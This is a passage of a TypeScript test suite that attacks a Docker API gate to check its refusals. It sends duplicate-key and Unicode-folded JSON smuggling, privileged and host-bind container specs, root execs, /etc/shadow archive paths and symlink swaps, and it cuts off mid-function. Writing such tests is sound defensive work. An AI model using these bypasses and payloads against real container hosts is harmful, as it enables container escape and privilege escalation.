/**
 * A compromised worker against a real docker gate and the real engine (issue 35). The gate's engine
 * socket is a byte recorder in front of /var/run/docker.sock, so every refusal is also checked where it
 * matters: the attack's body never reached the engine.
 * - JSON keys: every field the create, exec and exec-start rules check, in every case-folded,
 *   Unicode-folded (ſ for s, K for k) and repeated spelling, beside the checked one → duplicate-field;
 *   a lookalike no Go field folds to → unknown-field. Positive controls: the engine itself takes the
 *   last spelling (a bridge network, a root exec), and a lone variant spelling passes the gate and
 *   reaches the engine in canonical spelling.
 * - query strings: repeated, case-variant and unknown parameters; archive paths outside the sandbox's.
 * - old API versions (a HostConfig in a start body), bodies where none is taken.
 * - the egress root: a planted link, a directory outside it, an unsafe root, a link swapped in after
 *   the create (refused at start), and a worker uid that can neither write the root nor move the
 *   gate's directory.
 * - exec and create User: every spelling of another uid than the slot's own.
 * - archive uploads (issue 37's restore of protected files): owners other than the agent's (ustar,
 *   PAX, spellings), setuid/setgid modes, hard links, devices, FIFOs, absolute and `..` names, links
 *   out or through, xattrs, compressed or malformed tars, sizes, paths other than /workspace, other
 *   content types, a gVisor or foreign container → archive-put/query; the engine never sees the tar.
 *   Positive control: the engine itself takes a root-owned setuid file.
 */
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmod, mkdir, mkdtemp, readdir, rename, rm, symlink } from 'node:fs/promises';
import http from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'node:querystring';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import * as tar from 'tar-stream';
import Docker from 'dockerode';
import { loadConfig } from '../../src/config';
import { policyFromConfig, startGate, type DockerGate } from '../../src/docker-gate';
import { containerSpec } from '../../src/sandbox/container-spec';
import { uidSlot } from '../../src/sandbox/uid-slots';
import { restorePlan } from '../../src/sandbox/protected-restore';
import { ARCHIVE_PUT_LIMITS } from '../../src/docker-gate/archive-put';
import type { ProtectedState } from '../../src/domain/effects';
import { eventually } from '../support/eventually';
import { startRecordingEngine, type RecordingEngine } from '../support/recording-engine';
import { sandboxTestEnv } from '../support/sandbox-env';

jest.setTimeout(180_000);
const run = promisify(execFile);

const QUEUE = `gatk${randomBytes(3).toString('hex')}`;
const base = 2_300_000 + 2 * Math.floor(Math.random() * 1000) * 8;
const SLOTS = 8;
const config = loadConfig({ ...sandboxTestEnv(), CORRAL_QUEUE: QUEUE, CORRAL_SANDBOX_UID_BASE: String(base), CORRAL_SANDBOX_SLOTS: String(SLOTS) });
const engine = new Docker();
const image = config.CORRAL_SANDBOX_IMAGE;
let dir: string;
let sock: string;
let egressRoot: string;
let gate: DockerGate;
let rec: RecordingEngine;
const logs: Array<{ msg: string; rule?: unknown }> = [];
const TEST_LABEL = 'corral.test';
const tag = `gate-attacks-${randomBytes(3).toString('hex')}`;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'cga-'));
  await chmod(dir, 0o755);
  sock = join(dir, 'gate.sock');
  egressRoot = join(dir, 'egress');
  rec = await startRecordingEngine();
  const policy = policyFromConfig(config, { egressRoot });
  gate = await startGate({ policy, listen: sock, engineSocket: rec.socket, leaseDir: join(dir, 'leases'), log: (msg, f) => logs.push({ msg, ...f }), sweepMs: 0 });
});

afterAll(async () => {
  await gate?.close();
  await rec?.close();
  for (const f of [[`corral.queue=${QUEUE}`], [`${TEST_LABEL}=${tag}`]]) {
    const left = await engine.listContainers({ all: true, filters: { label: f } });
    await Promise.all(left.map((c) => engine.getContainer(c.Id).remove({ force: true }).catch(() => undefined)));
  }
  await rm(dir, { recursive: true, force: true });
});

/** One HTTP request to the gate (or, with `to`, another socket), body as given (text: no re-encoding). */
function request(method: string, path: string, body?: string, headers: Record<string, string> = {}, to = sock): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const data = body === undefined ? undefined : Buffer.from(body, 'utf8');
    const req = http.request({
      socketPath: to, method, path,
      headers: { Host: 'docker', ...(data ? { 'Content-Type': 'application/json', 'Content-Length': String(data.length) } : {}), ...headers },
    }, (res) => {
      let b = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (b += d));
      res.once('end', () => resolve({ status: res.statusCode ?? 0, body: b }));
    });
    req.once('error', reject);
    req.end(data);
  });
}

type J = null | boolean | number | string | J[] | { [k: string]: J };

/** JSON text of `v` with `extra` entries written into the object at `path` (so keys may repeat), before or after its own. */
function withEntries(v: J, path: string[], extra: Array<[string, J]>, where: 'after' | 'before' = 'after'): string {
  const ser = (x: J, p: string[]): string => {
    if (Array.isArray(x)) return `[${x.map((y, i) => ser(y, [...p, String(i)])).join(',')}]`;
    if (x !== null && typeof x === 'object') {
      const own = Object.entries(x).map(([k, y]) => `${JSON.stringify(k)}:${ser(y, [...p, k])}`);
      const here = p.length === path.length && p.every((s, i) => s === path[i]);
      const add = here ? extra.map(([k, y]) => `${JSON.stringify(k)}:${JSON.stringify(y)}`) : [];
      return `{${(where === 'after' ? [...own, ...add] : [...add, ...own]).join(',')}}`;
    }
    return JSON.stringify(x);
  };
  return ser(v, []);
}

/** Spellings Go's decoder folds onto `name` (case, ſ for s, K for k), the name itself excluded. */
function foldedSpellings(name: string): string[] {
  const out = new Set<string>([
    name.toLowerCase(), name.toUpperCase(), name[0]!.toLowerCase() + name.slice(1),
    [...name].map((c, i) => (i % 2 ? c.toLowerCase() : c.toUpperCase())).join(''),
  ]);
  if (/s/i.test(name)) {
    out.add(name.replace(/[sS]/g, '\u017f'));
    out.add(name.replace(/[sS]/, '\u017f'));
  }
  if (/k/i.test(name)) out.add(name.replace(/[kK]/g, '\u212a'));
  out.delete(name);
  return [...out];
}

const slot = (n: number) => uidSlot({ base, slots: SLOTS }, n);
function spec(n: number, isolation: 'runc' | 'gvisor' = 'runc'): Docker.ContainerCreateOptions & { name?: string } {
  return containerSpec({
    runId: `run_gatk_${randomBytes(3).toString('hex')}`, workerId: 'gate-attacks', queue: QUEUE, deadline: new Date(Date.now() + 120_000), now: new Date(),
    limits: { memoryMb: 64, cpus: 0.5, pids: 32, workspaceMb: 8 }, image, isolation, gvisorRuntime: config.CORRAL_GVISOR_RUNTIME, slot: slot(n),
  });
}
function bodyOf(s: Docker.ContainerCreateOptions & { name?: string }): J {
  const { name: _n, ...b } = s;
  return JSON.parse(JSON.stringify(b)) as J;
}

const refusedBy = (r: { status: number; body: string }, rule: string) => {
  expect({ status: r.status, body: r.body }).toEqual({ status: 403, body: expect.stringContaining(`rule ${rule})`) });
};

/** A value the gate would refuse (or the engine should never get) for a field, as the attack's payload. */
const EVIL: Record<string, J> = {
  NetworkMode: 'bridge', Privileged: true, ReadonlyRootfs: false, User: '0:0', Binds: ['/:/host'], CapAdd: ['SYS_ADMIN'], CapDrop: [],
  SecurityOpt: ['seccomp=unconfined'], MaskedPaths: [], ReadonlyPaths: [], PidMode: 'host', IpcMode: 'host', UTSMode: 'host',
  UsernsMode: 'host', CgroupnsMode: 'host', Memory: 0, MemorySwap: -1, PidsLimit: 0, NanoCpus: 0, Runtime: 'io.containerd.runc.v2',
  Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }], Tmpfs: { '/etc': 'size=1m' },
  Ulimits: [], Image: 'debian:bookworm-slim', HostConfig: { Privileged: true }, Labels: {}, Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }],
  Cmd: ['sh'], Env: ['LD_PRELOAD=/tmp/x.so'], WorkingDir: '/', Hostname: 'host', Init: false, OomScoreAdj: -1000, ShmSize: 1 << 30,
  LogConfig: { Type: 'syslog', Config: { 'syslog-address': 'tcp://127.0.0.1:1' } }, RestartPolicy: { Name: 'always' }, AutoRemove: true,
  Tty: true, OpenStdin: true, NetworkDisabled: false, AttachStdin: true, AttachStdout: true, AttachStderr: true, Entrypoint: ['sh'],
  Detach: true, DetachKeys: 'ctrl-p', Soft: 1 << 20, Hard: 1 << 20, Name: 'core', Type: 'bind', Source: '/', Target: '/host', ReadOnly: true,
  VolumeOptions: { NoCopy: false }, NoCopy: false, DriverConfig: { Name: 'local', Options: { type: 'none', device: '/', o: 'bind' } },
  Options: { type: 'none', device: '/', o: 'bind' },
};

describe('positive controls: the engine itself takes the last of two spellings', () => {
  test('NetworkMode then "NetworKMode" (Kelvin K): a container on the bridge network', async () => {
    const b = withEntries({ Image: image, Cmd: ['true'], Labels: { [TEST_LABEL]: tag }, HostConfig: { NetworkMode: 'none' } }, ['HostConfig'], [['Networ\u212aMode', 'bridge']]);
    const r = await request('POST', `/containers/create?name=cga-ctl-${randomBytes(3).toString('hex')}`, b, {}, '/var/run/docker.sock');
    expect(r.status).toBe(201);
    const c = engine.getContainer((JSON.parse(r.body) as { Id: string }).Id);
    expect((await c.inspect()).HostConfig.NetworkMode).toBe('bridge');
  });
  test('User then "uſer": an exec as root', async () => {
    const c = await engine.createContainer({ Image: image, Cmd: ['sleep', '60'], Labels: { [TEST_LABEL]: tag }, HostConfig: { NetworkMode: 'none' } });
    await c.start();
    const b = withEntries({ Cmd: ['id', '-u'], User: '2000001:2000001', AttachStdout: true }, [], [['u\u017fer', '0:0']]);
    const r = await request('POST', `/containers/${c.id}/exec`, b, {}, '/var/run/docker.sock');
    expect(r.status).toBe(201);
    const info = await engine.getExec((JSON.parse(r.body) as { Id: string }).Id).inspect();
    expect(info.ProcessConfig.user).toBe('0:0');
  });
});

describe('create: every checked field in every folded spelling beside the checked one', () => {
  const s = bodyOf(spec(0));
  const top = Object.keys(s as object).filter((k) => k !== 'HostConfig');
  const host = Object.keys((s as { HostConfig: object }).HostConfig);
  const cases: Array<[string, string[], string, string]> = [];
  for (const f of [...top, 'HostConfig']) for (const v of foldedSpellings(f)) cases.push([`${f} as ${JSON.stringify(v)}`, [], f, v]);
  for (const f of [...host, 'ReadonlyPaths', 'Devices', 'CgroupnsMode']) for (const v of foldedSpellings(f)) cases.push([`HostConfig.${f} as ${JSON.stringify(v)}`, ['HostConfig'], f, v]);
  for (const f of ['Name', 'Soft', 'Hard']) for (const v of foldedSpellings(f)) cases.push([`HostConfig.Ulimits[0].${f} as ${JSON.stringify(v)}`, ['HostConfig', 'Ulimits', '0'], f, v]);
  // Mounts[0] is the workspace volume (issue 37), Mounts[1] the slot's pty volume
  for (const i of ['0', '1']) for (const f of ['Type', 'Source', 'Target', 'VolumeOptions', ...(i === '0' ? ['ReadOnly'] : [])]) for (const v of foldedSpellings(f)) cases.push([`HostConfig.Mounts[${i}].${f} as ${JSON.stringify(v)}`, ['HostConfig', 'Mounts', i], f, v]);
  for (const f of ['NoCopy', 'Labels', 'DriverConfig']) for (const v of foldedSpellings(f)) cases.push([`HostConfig.Mounts[0].VolumeOptions.${f} as ${JSON.stringify(v)}`, ['HostConfig', 'Mounts', '0', 'VolumeOptions'], f, v]);
  for (const f of ['Name', 'Options']) for (const v of foldedSpellings(f)) cases.push([`HostConfig.Mounts[0].VolumeOptions.DriverConfig.${f} as ${JSON.stringify(v)}`, ['HostConfig', 'Mounts', '0', 'VolumeOptions', 'DriverConfig'], f, v]);

  test.each(cases)('%s (after and before it) → duplicate-field; the engine never sees it', async (_n, path, field, variant) => {
    rec.clear();
    const marker = `m${randomBytes(6).toString('hex')}`;
    const body = bodyOf(spec(1)) as { Labels: Record<string, string>; HostConfig: Record<string, J> };
    body.Labels.marker = marker;
    // fields the spec leaves out, present with a value the gate accepts, so the variant is the second spelling
    body.HostConfig.ReadonlyPaths ??= null;
    body.HostConfig.CgroupnsMode ??= 'private';
    // Which spelling is "checked" must not matter: the evil value first, then last.
    for (const where of ['after', 'before'] as const) {
      const r = await request('POST', `/containers/create?name=${slot(1).name}`, withEntries(body as unknown as J, path, [[variant, EVIL[field] ?? 'evil']], where));
      refusedBy(r, 'duplicate-field');
    }
    // the same key written twice
    const twice = withEntries(body as unknown as J, path, [[field, EVIL[field] ?? 'evil']]);
    refusedBy(await request('POST', `/containers/create?name=${slot(1).name}`, twice), 'duplicate-field');
    expect(rec.seen()).not.toContain(marker);
  });

  test.each(['Net\u0432orkMode', 'NetworkMode\u200b', 'Network_Mode', 'NetworkMod', 'Privileged ', '\u0130mage'])('a key no field folds to (%j) → unknown-field', async (k) => {
    rec.clear();
    const body = bodyOf(spec(1));
    const r = await request('POST', `/containers/create?name=${slot(1).name}`, withEntries(body, ['HostConfig'], [[k, 'x']]));
    refusedBy(r, 'unknown-field');
    expect(rec.seen()).toBe('');
  });

  test('the deprecated top-level HostConfig fields (read by the engine when "HostConfig" is absent) are refused', async () => {
    for (const [k, v] of [['Privileged', true], ['Binds', ['/:/host']], ['NetworkMode', 'host'], ['priviLeged', true]] as Array<[string, J]>) {
      const body = bodyOf(spec(1)) as Record<string, J>;
      delete body.HostConfig;
      refusedBy(await request('POST', `/containers/create?name=${slot(1).name}`, withEntries(body, [], [[k, v]])), 'create-body');
    }
    expect(rec.seen()).toBe('');
  });

  test('a lone variant spelling is the same field to the gate as to the engine: it passes, and the engine gets the canonical spelling', async () => {
    rec.clear();
    const body = bodyOf(spec(2)) as { HostConfig: Record<string, J> };
    const nm = body.HostConfig.NetworkMode!;
    delete body.HostConfig.NetworkMode;
    const text = withEntries(body as J, ['HostConfig'], [['networ\u212amode', nm]]);
    const r = await request('POST', `/containers/create?name=${slot(2).name}`, text);
    expect(r.status).toBe(201);
    expect(rec.seen()).toContain('"NetworkMode":"none"');
    expect(rec.seen()).not.toContain('networ\u212amode');
    const c = engine.getContainer((JSON.parse(r.body) as { Id: string }).Id);
    expect((await c.inspect()).HostConfig.NetworkMode).toBe('none');
    await request('DELETE', `/containers/${slot(2).name}?force=1`);
  });

  test('dockerode as it is: the spec in the body and the query, the name in both — passes; the engine gets the name alone in the query', async () => {
    rec.clear();
    const c = await new Docker({ socketPath: sock }).createContainer(spec(2));
    try {
      expect(/POST (\/containers\/create\S*) HTTP/.exec(rec.seen())?.[1]).toBe(`/containers/create?name=${slot(2).name}`);
    } finally {
      await c.remove({ force: true });
    }
  });

  test('a query that is almost dockerode\'s copy of the body (one value changed, one key added) is refused; the exact copy passes', async () => {
    rec.clear();
    const opts = spec(2) as Record<string, unknown>;
    // what dockerode writes (docker-modem's buildQuerystring): objects as JSON, lists as repeated keys
    const copy = (o: Record<string, unknown>) => new URLSearchParams(stringify(Object.fromEntries(Object.entries(o).map(([k, v]) => [k, v && typeof v === 'object' && !Array.isArray(v) ? JSON.stringify(v) : v])) as Record<string, string>));
    const body = JSON.stringify(opts);
    const changed = copy({ ...opts, HostConfig: { ...(opts.HostConfig as object), Privileged: true } });
    const added = copy(opts);
    added.append('platform', 'linux');
    for (const q of [changed, added]) refusedBy(await request('POST', `/containers/create?${q.toString()}`, body), 'query');
    expect(rec.seen()).toBe('');
    const ok = await request('POST', `/containers/create?${copy(opts).toString()}`, body);
    expect(ok.status).toBe(201);
    await request('DELETE', `/containers/${slot(2).name}?force=1`);
  });

  test('bodies that are not one JSON value as the engine reads it are refused', async () => {
    rec.clear();
    const good = JSON.stringify(bodyOf(spec(1)));
    for (const b of [`${good}{"HostConfig":{"Privileged":true}}`, `\ufeff${good}`, good.replace('"Image"', '"Im\\ud800age"'), `${good.slice(0, -1)},}`]) {
      const r = await request('POST', `/containers/create?name=${slot(1).name}`, b);
      expect(r.status).toBe(403);
    }
    expect(rec.seen()).toBe('');
  });
});

describe('exec and exec start bodies', () => {
  let own: string;
  let agent: number;
  beforeAll(async () => {
    const r = await request('POST', `/containers/create?name=${slot(3).name}`, JSON.stringify(bodyOf(spec(3))));
    expect(r.status).toBe(201);
    own = (JSON.parse(r.body) as { Id: string }).Id;
    agent = slot(3).agentUid;
    expect((await request('POST', `/containers/${own}/start`)).status).toBe(204);
  });
  const execBody = () => ({ Cmd: ['id', '-u'], User: `${agent}:${agent}`, AttachStdout: true, AttachStderr: true, Tty: false, Privileged: false, Env: ['A=1'], WorkingDir: '/workspace', Detach: false, DetachKeys: '' } as Record<string, J>);

  test('every exec field in every folded spelling beside the checked one → duplicate-field; never at the engine', async () => {
    rec.clear();
    for (const f of Object.keys(execBody())) {
      for (const v of foldedSpellings(f)) {
        for (const where of ['after', 'before'] as const) {
          refusedBy(await request('POST', `/containers/${own}/exec`, withEntries(execBody() as J, [], [[v, EVIL[f] ?? 'evil']], where)), 'duplicate-field');
        }
      }
    }
    expect(rec.seen()).not.toContain('/exec');
  });

  test('exec User: every other uid, in every spelling, is refused; the slot\'s own passes and the engine gets exactly it', async () => {
    rec.clear();
    const other = slot(4).agentUid;
    for (const u of ['0', '0:0', 'root', 'root:root', `${agent}:0`, `0:${agent}`, `${agent}`, `${agent}:${agent}:x`, ` ${agent}:${agent}`, `${agent}:${agent} `,
      `${agent - 1}:${agent - 1}`, `${other}:${other}`, `0${agent}:0${agent}`, `+${agent}:${agent}`, 'agent', '', `${agent}:${agent}\u0000`, `${2 ** 32 + agent}:${agent}`]) {
      refusedBy(await request('POST', `/containers/${own}/exec`, JSON.stringify({ ...execBody(), User: u })), 'exec-user');
    }
    const noUser = execBody();
    delete noUser.User;
    refusedBy(await request('POST', `/containers/${own}/exec`, JSON.stringify(noUser)), 'exec-user');
    refusedBy(await request('POST', `/containers/${own}/exec`, JSON.stringify({ ...execBody(), Privileged: true })), 'exec-not-privileged');
    expect(rec.seen()).not.toContain('/exec');
    const lone = execBody();
    delete lone.User;
    const r = await request('POST', `/containers/${own}/exec`, withEntries(lone as J, [], [['u\u017fer', `${agent}:${agent}`]]));
    expect(r.status).toBe(201);
    expect(rec.seen()).toContain(`"User":"${agent}:${agent}"`);
    const info = await engine.getExec((JSON.parse(r.body) as { Id: string }).Id).inspect();
    expect(info.ProcessConfig.user).toBe(`${agent}:${agent}`);
  });

  test('exec start: folded or repeated Detach/Tty, unknown keys, and a Tty start are refused; a plain start runs as the slot\'s uid', async () => {
    const r = await request('POST', `/containers/${own}/exec`, JSON.stringify(execBody()));
    const id = (JSON.parse(r.body) as { Id: string }).Id;
    rec.clear();
    for (const b of [withEntries({ Detach: false, Tty: false }, [], [['tty', true]]), withEntries({ Detach: false }, [], [['Detach', true]]),
      withEntries({ Detach: false, Tty: false }, [], [['Hijack', true]]), withEntries({ Detach: false, Tty: false, hijack: true }, [], [['hijack', false]]),
      JSON.stringify({ Detach: false, Tty: true }), withEntries({ Detach: false, Tty: false }, [], [['ConsoleSize', [1, 1]]])]) {
      const x = await request('POST', `/exec/${id}/start`, b);
      expect(x.status).toBe(403);
    }
    expect(rec.seen()).not.toContain('/start');
    // dockerode's own options (hijack, stdin) in their exact spelling are its, not the engine's: accepted, never forwarded
    const ok = await request('POST', `/exec/${id}/start`, JSON.stringify({ hijack: false, stdin: false, Detach: false, Tty: false }));
    expect(rec.seen()).not.toContain('hijack');
    expect(ok.status).toBe(200);
    expect(ok.body).toContain(String(agent));
  });

  test('exec start over an upgraded connection: a folded duplicate in its body is refused before anything runs', async () => {
    const r = await request('POST', `/containers/${own}/exec`, JSON.stringify({ ...execBody(), Cmd: ['touch', '/tmp/started'] }));
    const id = (JSON.parse(r.body) as { Id: string }).Id;
    const body = withEntries({ Detach: false, Tty: false }, [], [['TTY', true]]);
    const answer = await new Promise<string>((resolve) => {
      const s = connect(sock);
      let got = '';
      s.on('data', (d) => (got += d.toString('latin1')));
      s.once('close', () => resolve(got));
      s.write(`POST /exec/${id}/start HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\nConnection: Upgrade\r\nUpgrade: tcp\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
    });
    expect(answer).toMatch(/^HTTP\/1\.1 403/);
    expect(answer).toContain('rule duplicate-field');
    const probe = await request('POST', `/containers/${own}/exec`, JSON.stringify({ ...execBody(), Cmd: ['test', '-e', '/tmp/started'] }));
    const pid = (JSON.parse(probe.body) as { Id: string }).Id;
    await request('POST', `/exec/${pid}/start`, JSON.stringify({ Detach: false, Tty: false }));
    expect((await engine.getExec(pid).inspect()).ExitCode).toBe(1);
  });

  test('query strings: repeated, case-variant and unknown parameters, and archive paths outside the sandbox\'s, are refused', async () => {
    rec.clear();
    for (const [m, p, rule] of [
      ['POST', `/containers/create?name=${slot(5).name}&name=${slot(6).name}`, 'query'],
      ['POST', `/containers/create?Name=${slot(5).name}`, 'query'],
      ['POST', `/containers/create?name=${slot(5).name}&platform=linux`, 'query'],
      ['GET', `/containers/${own}/archive?path=/etc/shadow`, 'query'],
      ['GET', `/containers/${own}/archive?path=/workspace/../etc`, 'query'],
      ['GET', `/containers/${own}/archive?path=/workspace&path=/etc`, 'query'],
      ['GET', `/containers/${own}/archive?Path=/etc`, 'query'],
      ['DELETE', `/containers/${own}?force=1&link=1`, 'query'],
      ['POST', `/containers/${own}/kill?signal=KILL&signal=HUP`, 'query'],
      ['GET', `/containers/json?all=1&All=0`, 'query'],
      ['GET', `/containers/json?filters=${encodeURIComponent(JSON.stringify({ label: ['x'], before: ['y'] }))}`, 'filters'],
      ['PUT', `/containers/${own}/archive?path=/etc`, 'query'],
    ] as const) {
      refusedBy(await request(m, p, m === 'POST' && p.includes('create') ? JSON.stringify(bodyOf(spec(5))) : undefined), rule);
    }
    expect(rec.seen()).not.toMatch(/archive|link=|Name=|platform|kill/);
    const ok = await request('GET', `/containers/${own}/archive?path=/workspace`);
    expect(ok.status).toBe(200);
  });

  test('API versions below 1.41 (a HostConfig in a start body) and bodies where none is taken are refused', async () => {
    rec.clear();
    const evil = JSON.stringify({ Privileged: true, Binds: ['/:/host'] });
    refusedBy(await request('POST', `/v1.23/containers/${own}/start`, evil), 'api-version');
    refusedBy(await request('POST', `/v1.40/containers/create?name=${slot(5).name}`, JSON.stringify(bodyOf(spec(5)))), 'api-version');
    refusedBy(await request('POST', `/v1.41/containers/${own}/start`, evil), 'body-not-allowed');
    refusedBy(await request('POST', `/containers/${own}/kill?signal=KILL`, 'signal=HUP', { 'Content-Type': 'application/x-www-form-urlencoded' }), 'body-not-allowed');
    expect(rec.seen()).not.toContain('Privileged');
    expect(rec.seen()).not.toContain('/kill');
    expect((await engine.getContainer(own).inspect()).HostConfig.Privileged).toBe(false);
  });
});

describe('create User: only the PID 1 uid of a slot of this deployment\'s range, bound to the label and the name', () => {
  test.each([
    ['root', (s: Record<string, J>) => { s.User = '0:0'; }],
    ['the agent uid as PID 1', (s: Record<string, J>) => { s.User = `${slot(1).agentUid}:${slot(1).agentUid}`; }],
    ['another slot\'s PID 1 uid', (s: Record<string, J>) => { s.User = `${slot(2).initUid}:${slot(2).initUid}`; }],
    ['a uid past the range', (s: Record<string, J>) => { s.User = `${uidSlot({ base, slots: SLOTS + 5 }, SLOTS + 2).initUid}:${uidSlot({ base, slots: SLOTS + 5 }, SLOTS + 2).initUid}`; }],
    ['a group other than the uid', (s: Record<string, J>) => { s.User = `${slot(1).initUid}:0`; }],
    ['the uid label of another slot', (s: Record<string, J>) => { (s.Labels as Record<string, J>)['corral.uid'] = String(slot(2).agentUid); }],
    ['the workspace owned by another uid', (s: Record<string, J>) => { ((s.HostConfig as Record<string, J>).Tmpfs as Record<string, J>)['/workspace'] = `rw,exec,nosuid,nodev,size=8m,uid=0,gid=0,mode=0755`; }],
  ])('%s → sandbox-user', async (_n, change) => {
    const s = bodyOf(spec(1)) as Record<string, J>;
    change(s);
    refusedBy(await request('POST', `/containers/create?name=${slot(1).name}`, JSON.stringify(s)), 'sandbox-user');
  });
  test('a name that is not the slot\'s → container-name', async () => {
    refusedBy(await request('POST', `/containers/create?name=${slot(2).name}`, JSON.stringify(bodyOf(spec(1)))), 'container-name');
  });
});

describe('the egress root', () => {
  const bindSpec = (src: string) => {
    const s = bodyOf(spec(6)) as Record<string, J>;
    (s.HostConfig as Record<string, J>).Binds = [`${src}:/run/corral:ro`];
    (s.Labels as Record<string, J>)['corral.egress-dir'] = src;
    return JSON.stringify(s);
  };
  const makeDir = async () => {
    const r = await request('POST', '/corral-gate/egress-dirs');
    expect(r.status).toBe(201);
    return (JSON.parse(r.body) as { dir: string }).dir;
  };

  test('a link planted in the root, a directory elsewhere, and spellings around the root are refused; the engine never sees them', async () => {
    rec.clear();
    await symlink('/', join(egressRoot, 'r-planted1'));
    await mkdir(join(dir, 'r-outside1'));
    refusedBy(await request('POST', `/containers/create?name=${slot(6).name}`, bindSpec(join(egressRoot, 'r-planted1'))), 'binds-egress-only');
    for (const src of [join(dir, 'r-outside1'), `${egressRoot}/../r-outside1`, `${egressRoot}//r-planted1`, `${egressRoot}/r-planted1/`, egressRoot, '/var/run', `${egressRoot}/r-planted1/x`]) {
      refusedBy(await request('POST', `/containers/create?name=${slot(6).name}`, bindSpec(src)), 'binds-egress-only');
    }
    const d = await makeDir();
    for (const b of [`${d}:/run/corral`, `${d}:/run/corral:rw`, `${d}:/run/corral:ro,z`, `${d}:/etc:ro`, `${d}:/run/corral:ro:x`]) {
      const s = JSON.parse(bindSpec(d)) as Record<string, Record<string, J>>;
      s.HostConfig!.Binds = [b];
      refusedBy(await request('POST', `/containers/create?name=${slot(6).name}`, JSON.stringify(s)), 'binds-egress-only');
    }
    const m = JSON.parse(bindSpec(d)) as Record<string, Record<string, J>>;
    m.HostConfig!.Mounts = [{ Type: 'bind', Source: '/', Target: '/dev/pts' }];
    refusedBy(await request('POST', `/containers/create?name=${slot(6).name}`, JSON.stringify(m)), 'binds-egress-only');
    expect(rec.seen()).not.toContain('/containers/create');
    await rm(join(egressRoot, 'r-planted1'));
  });

  test('a root others can write is refused (nothing under it can be trusted)', async () => {
    const d = await makeDir();
    await chmod(egressRoot, 0o777);
    try {
      refusedBy(await request('POST', `/containers/create?name=${slot(6).name}`, bindSpec(d)), 'egress-root');
      refusedBy(await request('POST', '/corral-gate/egress-dirs'), 'egress-root');
    } finally {
      await chmod(egressRoot, 0o711);
    }
  });

  test('a link swapped in after the create is refused at start: the engine never mounts it', async () => {
    const d = await makeDir();
    const r = await request('POST', `/containers/create?name=${slot(6).name}`, bindSpec(d));
    expect(r.status).toBe(201);
    const id = (JSON.parse(r.body) as { Id: string }).Id;
    await rename(d, `${d}-moved`);
    await symlink('/', d);
    refusedBy(await request('POST', `/containers/${id}/start`), 'binds-egress-only');
    expect((await engine.getContainer(id).inspect()).State.Status).toBe('created');
    await rm(d);
    await rename(`${d}-moved`, d);
    expect((await request('POST', `/containers/${id}/start`)).status).toBe(204);
    const e = await request('POST', `/containers/${id}/exec`, JSON.stringify({ Cmd: ['sh', '-c', 'ls -A /run/corral | wc -l; grep -c " /run/corral " /proc/mounts'], User: `${slot(6).agentUid}:${slot(6).agentUid}`, AttachStdout: true }));
    const x = await request('POST', `/exec/${(JSON.parse(e.body) as { Id: string }).Id}/start`, JSON.stringify({ Detach: false, Tty: false }));
    expect(x.body).toMatch(/0\s[\s\S]*1/);
    expect((await request('DELETE', `/containers/${id}?force=1`)).status).toBe(204);
  });

  test('a worker uid (not root) can neither make entries in the root nor move or replace the gate\'s directories', async () => {
    const d = await makeDir();
    const asWorker = (cmd: string) => run('setpriv', ['--reuid', '10100', '--regid', '10100', '--clear-groups', 'sh', '-c', cmd]).then(() => 'ok', (e: { stderr?: string }) => e.stderr ?? 'failed');
    expect(await asWorker(`mkdir ${egressRoot}/r-mine1234`)).toMatch(/Permission denied/);
    expect(await asWorker(`ln -s / ${egressRoot}/r-link1234`)).toMatch(/Permission denied/);
    expect(await asWorker(`mv ${d} ${d}x`)).toMatch(/Permission denied/);
    expect(await asWorker(`rm -rf ${d}`)).toMatch(/Permission denied/);
    expect((await readdir(egressRoot)).filter((n) => n.endsWith('1234'))).toEqual([]);
  });

  test('the gate removes only its deployment\'s directories', async () => {
    refusedBy(await request('DELETE', '/corral-gate/egress-dirs/..'), 'endpoint-not-allowed');
    expect((await request('DELETE', '/corral-gate/egress-dirs/r-nonexistent')).status).toBe(404);
    const d = await makeDir();
    expect((await request('DELETE', `/corral-gate/egress-dirs/${d.slice(d.lastIndexOf('/') + 1)}`)).status).toBe(204);
    expect((await readdir(egressRoot)).includes(d.slice(d.lastIndexOf('/') + 1))).toBe(false);
  });
});

describe('archive uploads: only the effect guard\'s restore into /workspace (issue 37)', () => {
  let id: string;
  let agent: number;
  const S = 7;
  beforeAll(async () => {
    const r = await request('POST', `/containers/create?name=${slot(S).name}`, JSON.stringify(bodyOf(spec(S))));
    expect(r.status).toBe(201);
    id = (JSON.parse(r.body) as { Id: string }).Id;
    agent = slot(S).agentUid;
    expect((await request('POST', `/containers/${id}/start`)).status).toBe(204);
  });

  /** A PUT of raw tar bytes (to the gate, or with `to` the engine itself); the answer even when the server closes mid-upload. */
  function putTar(container: string, body: Buffer, o: { query?: string; type?: string; headers?: Record<string, string>; to?: string } = {}): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      let answer: { status: number; body: string } | undefined;
      const req = http.request({
        socketPath: o.to ?? sock, method: 'PUT', path: `/containers/${container}/archive?${o.query ?? 'path=%2Fworkspace'}`,
        headers: { Host: 'docker', 'Content-Type': o.type ?? 'application/x-tar', 'Content-Length': String(body.length), ...o.headers },
      }, (res) => {
        answer = { status: res.statusCode ?? 0, body: '' };
        res.setEncoding('utf8');
        res.on('data', (d: string) => (answer!.body += d));
        res.once('end', () => resolve(answer!));
        res.once('error', () => resolve(answer!));
      });
      req.once('error', (err) => (answer ? resolve(answer) : reject(err)));
      req.end(body);
    });
  }

  /** Runs `cmd` in the sandbox as its agent through the gate; its output (the engine's multiplexed frames, as text). */
  async function inSandbox(cmd: string): Promise<string> {
    const e = await request('POST', `/containers/${id}/exec`, JSON.stringify({ Cmd: ['sh', '-c', cmd], User: `${agent}:${agent}`, AttachStdout: true, AttachStderr: true }));
    expect(e.status).toBe(201);
    return (await request('POST', `/exec/${(JSON.parse(e.body) as { Id: string }).Id}/start`, JSON.stringify({ Detach: false, Tty: false }))).body;
